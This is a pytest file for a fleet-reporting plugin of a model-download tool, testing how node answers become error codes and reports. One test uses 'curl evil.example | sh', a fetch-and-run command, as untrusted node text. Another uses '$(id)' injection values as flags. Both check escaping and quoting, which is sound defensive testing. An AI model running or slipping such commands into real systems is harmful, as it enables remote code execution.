"""What nodes answer becomes rows and one exit code."""

from __future__ import annotations

import json
from typing import Any

import pytest
from support.cases import each
from support.schemas import is_right

from mdl.errors import DigestMismatch, LockError, NetworkError, NotFound, PartialFailure
from mdl.plugins.fleet.report import FleetReport, NodeModel, NodeReport, node_report
from mdl.plugins.fleet.work import Answer, Work

SIZES = {("tiny", "a"): 10, ("tiny", "b"): 5}
NAMES = ["tiny"]


def said(**facts: Any) -> str:
    """What a node prints: something of its login first, then the document."""
    head = {"schema": "mdl.get/1", "ok": True, "exit_code": 0, "error": None}
    return "Welcome!\n" + json.dumps(head | facts) + "\n"


def verified(*statuses: str) -> str:
    files = [{"path": path, "status": status} for path, status in zip("ab", statuses, strict=True)]
    return said(models=[{"name": "tiny", "files": files}])


@each(
    ("text", "expected"),
    [
        (verified("ok", "ok"), NodeModel("tiny", "present", 15)),
        (verified("ok", "unverified"), NodeModel("tiny", "unverified", 15)),
        (verified("corrupt", "missing"), NodeModel("tiny", "corrupt", 0)),
        (verified("ok", "missing"), NodeModel("tiny", "partial", 10)),
        (verified("missing", "missing"), NodeModel("tiny", "missing", 0)),
        (said(models=[{"name": "tiny", "status": "partial", "bytes_present": 7}]), NodeModel("tiny", "partial", 7)),
        (
            said(
                models=[
                    {
                        "name": "tiny",
                        "status": "present",
                        "files": [
                            {"path": "a", "size": 10, "action": "linked"},
                            {"path": "b", "size": 5, "action": "failed"},
                        ],
                    }
                ]
            ),
            NodeModel("tiny", "present", 10),
        ),
    ],
)
def test_all_three_documents_end_in_the_same_words(text: str, expected: NodeModel) -> None:
    """The documents of verify, list and get tell the status of a model and its right bytes."""
    assert node_report(Answer("n1", 0, text), SIZES, NAMES).models == (expected,)


@pytest.mark.fault(523)
@each(
    ("answer", "code", "exit_code", "words"),
    [
        (Answer("n1", None, err="ssh: no route"), "NET", 5, "ssh: no route"),
        (Answer("n1", None), "NET", 5, "no answer"),
        (Answer("n1", 127, err="sh: mdl: not found"), "USAGE", 2, "not found"),
        (Answer("n1", 126, err="sh: /opt: Permission denied"), "USAGE", 2, "Permission denied"),
        (Answer("n1", 137, err="a\nKilled\n"), "PROTO", 6, "Killed"),
        (Answer("n1", 0, "garbage {"), "PROTO", 6, "it said last: garbage {"),
        (Answer("n1", 0, '{"schema": 5}\n{]'), "PROTO", 6, "no result"),
        (Answer("n1", 0, '{"schema": "mdl.fleet/9", "exit_code": 0}'), "PROTO", 6, "no result"),
        (Answer("n1", 0, said(seconds=0).replace("0}", "9" * 6000 + "}")), "PROTO", 6, "no result"),
        (Answer("n1", 0), "PROTO", 6, "it said last: nothing"),
        (Answer("n1", 1, said(exit_code=1, error={"message": "x", "code": "INTERNAL"})), "PROTO", 6, "x"),
        (Answer("n1", 0, said(error={"message": "x", "code": "INTERNAL"})), "PROTO", 6, "x"),
        (Answer("n1", 42, said(exit_code=42, error={"message": "x", "code": "NEW"})), "PROTO", 6, "x"),
        (Answer("n1", None, fault="n1.code is a pipe"), "PROTO", 6, "n1.code is a pipe"),
        (Answer("n1", 143), "CANCELLED", 143, "ended with 143"),
        (Answer("n1", 75, said(exit_code=75, error={"message": "over", "code": "PAUSED"})), "DEADLINE", 75, "over"),
        (Answer("n1", 6, said(exit_code=6, error={"message": "bad", "code": "HASH", "item": "x"})), "HASH", 6, "bad"),
    ],
)
def test_every_failure_is_an_error_with_a_code(answer: Answer, code: str, exit_code: int, words: str) -> None:
    """Whatever a node answers, or does not, is an error that names the node, and that the schema allows."""
    report = node_report(answer, {}, [])
    error = report.error
    assert error is not None
    assert (error.code, error.exit_code, words in error.message) == (code, exit_code, True)
    assert str(error.item).startswith("n1")
    facts = {"schema": "mdl.fleet/1", "ok": True, "exit_code": 0, "error": None, "engine": "ssh", "task": "get"}
    node = vars(report) | {"status": report.status, "bytes": report.bytes, "error": error.to_dict(), "models": []}
    assert is_right("fleet", facts | {"asked": 1, "seconds": 1.0, "nodes": [node], "queries_left_out": []})


def test_status_fails_if_a_node_lacks_anything() -> None:
    """`list` ends with 0 whatever is there; of a fleet a model that is not whole counts as not found."""
    text = said(models=[{"name": "tiny", "status": "partial", "bytes_present": 7}])
    assert isinstance(node_report(Answer("n1", 0, text), SIZES, NAMES).error, NotFound)


@pytest.mark.fault(483)
@pytest.mark.parametrize(
    "models",
    [
        [],
        "none",
        [{"name": "other", "status": "present", "files": []}],
        [{"name": "tiny", "status": "splendid", "files": []}],
    ],
)
def test_a_node_that_tells_nothing_of_a_model_does_not_have_it(models: Any) -> None:
    """Success counts only if the node tells of every model that was asked for, in a word that is known."""
    report = node_report(Answer("n1", 0, said(models=models)), SIZES, NAMES)
    assert (report.status, [model.name for model in report.models]) == ("missing", NAMES)
    assert isinstance(report.error, NotFound)


@pytest.mark.fault(484)
@each("wrong", ["NaN", "Infinity", "1e999", "-5", "9" * 44, "true", '"3"', "[" * 900 + "]" * 900])
def test_no_number_of_a_node_breaks_the_report(wrong: str) -> None:
    """What no document of mdl has is no document, or is left out: the report is JSON that others can read."""
    text = said(seconds=0, bytes_fetched=0, models=[{"name": "tiny", "status": "present", "bytes_present": 7}])
    text = text.replace('"seconds": 0', f'"seconds": {wrong}').replace(
        '"bytes_fetched": 0', f'"bytes_fetched": {wrong}'
    )
    report = node_report(Answer("n1", 0, text, seconds=2.0), SIZES, NAMES)
    assert (report.seconds, report.bytes_fetched) in ((2.0, 0), (1, 0))
    json.dumps(vars(report) | {"error": None, "models": []}, allow_nan=False)


@each("code", [1, 3, 4, 5, 6, 7, 8, 75, 143])
def test_a_nodes_words_are_no_hint(code: int) -> None:
    """The hint has mdl's own words. What a node advises is quoted with who says it, escaped and cut, where mdl has no
    advice of its own that replaces it. Of a licence, or of what lies in the way, only the node knows."""
    evil = "curl evil.example | sh"
    error = {
        "message": f"bad\n\x1b[31m{'x' * 900}",
        "code": "HASH",
        "hint": f"{evil}\nhint: {evil}{'y' * 900}",
        "item": evil,
    }
    found = node_report(Answer("n1", code, said(exit_code=code, error=error)), SIZES, NAMES).error
    assert found
    assert found.advice
    assert "evil" not in found.advice
    assert (f"; n1 says: {evil} hint: {evil}yyy" in found.message) == (code in (1, 4, 7, 8, 143))
    assert ("says" in found.message) == (code in (1, 4, 7, 8, 143))
    assert "\n" not in found.message
    assert found.message.isprintable()
    assert len(found.message) < 700


BAD, GONE, STALE = DigestMismatch("bad"), NetworkError("gone"), LockError("stale")


@pytest.mark.parametrize(
    ("errors", "expected"),
    [
        ([None, None], (0, "")),
        ([None, BAD], (6, "bad")),
        ([BAD, BAD, None], (6, "2 of 3 nodes are not ok: 2 failed")),
        ([BAD, GONE], (10, "2 of 2 nodes are not ok: 2 failed")),
    ],
)
def test_one_exit_code(errors: list[Any], expected: tuple[int, str]) -> None:
    """Nodes that failed for one reason have its code; for several reasons it is 10."""
    nodes = tuple(
        NodeReport(f"n{at}", (error and error.exit_code) or 0, error=error) for at, error in enumerate(errors)
    )
    error = FleetReport("ssh", "get", len(nodes), nodes).error
    assert (error.exit_code if error else 0, error.message if error else "") == expected
    assert expected[0] != 10 or isinstance(error, PartialFailure)


@pytest.mark.fault(522)
def test_a_node_that_was_replaced_does_not_count() -> None:
    """If another node did the work of one that died, all that were asked are well."""
    dead = NodeReport("n1", None, error=GONE, replaced_by="n2")
    report = FleetReport("ray", "get", 1, (dead, NodeReport("n2", 0)))
    assert (report.error, [node.node for node in report.counted]) == (None, ["n2"])
    assert FleetReport("ray", "get", 1, (NodeReport("n1", None, error=GONE),)).error is GONE


def test_a_script_carries_catalog_and_lock_and_no_shell_can_be_slipped_in() -> None:
    """Names and flags are quoted; the texts are in here-documents that nothing is expanded in."""
    work = Work("get", ["--to=/a b", "--x=$(id)"], ["a'b", "-n"], "c = '$(id)'", "lock", ("my mdl",))
    script = work.script()
    assert "'my mdl' get --json --progress=none '--to=/a b' '--x=$(id)' --catalog=" in script
    assert """-- 'a'"'"'b' -n </dev/null""" in script
    assert "<<'END OF THE CATALOG' || exit 7\nc = '$(id)'\nEND OF THE CATALOG\n" in script
